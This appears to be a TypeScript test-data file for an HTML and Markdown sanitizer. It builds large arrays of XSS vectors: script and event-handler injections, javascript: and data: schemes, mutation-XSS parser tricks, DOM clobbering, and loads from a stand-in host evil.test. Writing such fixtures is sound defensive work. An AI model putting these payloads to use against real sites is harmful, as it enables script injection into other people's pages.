/** Inputs that must come out harmless: classic vectors, mutation XSS, parser confusion, scheme tricks. Test data only. */
const handlers = [
  'onerror',
  'onload',
  'onclick',
  'onmouseover',
  'onfocus',
  'ontoggle',
  'onanimationstart',
  'onpointerenter',
  'ONERROR',
  'oNlOaD',
];
const carriers = [
  'img src=x',
  'svg',
  'body',
  'p',
  'a href=/x',
  'details open',
  'video src=x',
  'h2 id=x',
  'td',
  'marquee',
  'input autofocus',
];
// biome-ignore format: a dense list reads better
const schemes = [
  'javascript:alert(1)', 'JaVaScRiPt:alert(1)', ' javascript:alert(1)', 'java\tscript:alert(1)', 'java\nscript:alert(1)',
  '\u0001javascript:alert(1)', 'javascript&colon;alert(1)', '&#106;avascript:alert(1)', '&#x6A&#x61;vascript:alert(1)',
  'data:text/html,<script>alert(1)</script>', 'data:text/html;base64,PHNjcmlwdD4=', 'vbscript:msgbox(1)', '//evil.test/x',
  '/\\evil.test', '\\\\evil.test', 'file:///etc/passwd', 'blob:https://x/1', 'view-source:javascript:1', 'feed:javascript:alert(1)',
  'jav&#x09;ascript:alert(1)', 'livescript:1', 'mocha:1', 'ms-its:mhtml:file://x', 'about:blank', 'intent://x#Intent;end',
];
// biome-ignore format: a dense list reads better
const pieces = [
  '<script>alert(1)</script>', '<script src=//evil.test/x.js></script>', '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<SCRIPT/XSS SRC="x"></SCRIPT>', '<<script>alert(1)//<</script>', '<script\u0000>alert(1)</script>', '"><script>alert(1)</script>',
  '<svg><script>alert(1)</script></svg>', '<svg/onload=alert(1)>', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">x</math>', '<style>@import "//evil.test/x.css";</style>', '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="position:fixed;inset:0">x</p>', '<iframe src="javascript:alert(1)"></iframe>', '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>', '<embed src="javascript:alert(1)">', '<link rel=stylesheet href=//evil.test/x.css>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">', '<base href="//evil.test/">', '<form action="javascript:alert(1)"><button>x</button></form>',
  '<button formaction="javascript:alert(1)">x</button>', '<isindex action=javascript:alert(1)>', '<video><source onerror=alert(1)></video>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<textarea></textarea><img src=x onerror=alert(1)>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->', '<!-- --!><img src=x onerror=alert(1)>', '<![CDATA[<img src=x onerror=alert(1)>]]>', '<?xml <img src=x onerror=alert(1)>?>',
  '<a href="x"title="</a><img src=x onerror=alert(1)>">', '<img src="/files/a.png" alt="a" onerror=alert(1)>', '<img alt="<img src=x onerror=alert(1)>" src="/files/a">',
  '<img src=`x`onerror=alert(1)>', '<img src="x` `<script>alert(1)</script>"` `>', '<a href="/x" onclick=alert(1) style=x target=_blank>x</a>', '<template><img src=x onerror=alert(1)></template>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">', '<title><a href="</title><img src=x onerror=alert(1)>">', '<select><option><img src=x onerror=alert(1)>',
  '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x', '<h2 id="</h2><script>alert(1)</script>">x</h2>', '<h2 id=location>x</h2>',
  '<input name=attributes><input name=parentNode>', '<custom-element onclick=alert(1) is=x>x</custom-element>', '<p data-x="<img src=x onerror=alert(1)>">x</p>',
  '<sup><svg><desc><img src=x onerror=alert(1)></desc></svg></sup>', '&lt;script&gt;alert(1)&lt;/script&gt;', '<plaintext><img src=x onerror=alert(1)>',
  '<a href="mailto:x@y.z?body=<script>">x</a>', '<img src="/files/../../admin" alt="x">', '<img src="https://evil.test/p.png" alt="x">', '<img src="//evil.test/p.png" alt=x>',
];

const cross = <A, B>(left: readonly A[], right: readonly B[], join: (a: A, b: B) => string): string[] =>
  left.flatMap((a) => right.map((b) => join(a, b)));

export const hostileHtml: readonly string[] = [
  ...pieces,
  ...cross(carriers, handlers, (carrier, handler) => `<${carrier} ${handler}=alert(1)>x`),
  ...cross(carriers, ['onerror', 'onclick'], (carrier, handler) => `<${carrier}/${handler}="alert(1)">x`),
  ...pieces.map((piece) => `${piece.toUpperCase()}<p>${piece}`),
  ...schemes.map((scheme) => `<a href="${scheme}">x</a>`),
  ...schemes.map((scheme) => `<img src="${scheme}" alt="x">`),
  ...pieces.map((piece) => `<p>before ${piece} after</p><table><tr><td>${piece}</td></tr></table>`),
];

export const hostileMarkdown: readonly string[] = [
  ...hostileHtml,
  ...schemes.map((scheme) => `[x](${scheme})`),
  ...schemes.map((scheme) => `[x](<${scheme}>)`),
  ...schemes.map((scheme) => `![x](${scheme})`),
  ...schemes.map((scheme) => `[x]: ${scheme}\n\n[x]`),
  ...pieces.map((piece) => `# ${piece}\n\n| ${piece} |\n|---|\n| ${piece} |`),
  ...pieces.map((piece) => `[${piece}](/x "${piece}")`),
  ...pieces.map((piece) => `\`\`\`${piece}\n${piece}\n\`\`\``),
  '<javascript:alert(1)>',
  '![x](/files/a.png "\\"onerror=alert(1)")',
  '[x](/y"onclick=alert(1))',
  '![a"onerror="alert(1)](/files/a.png)',
];
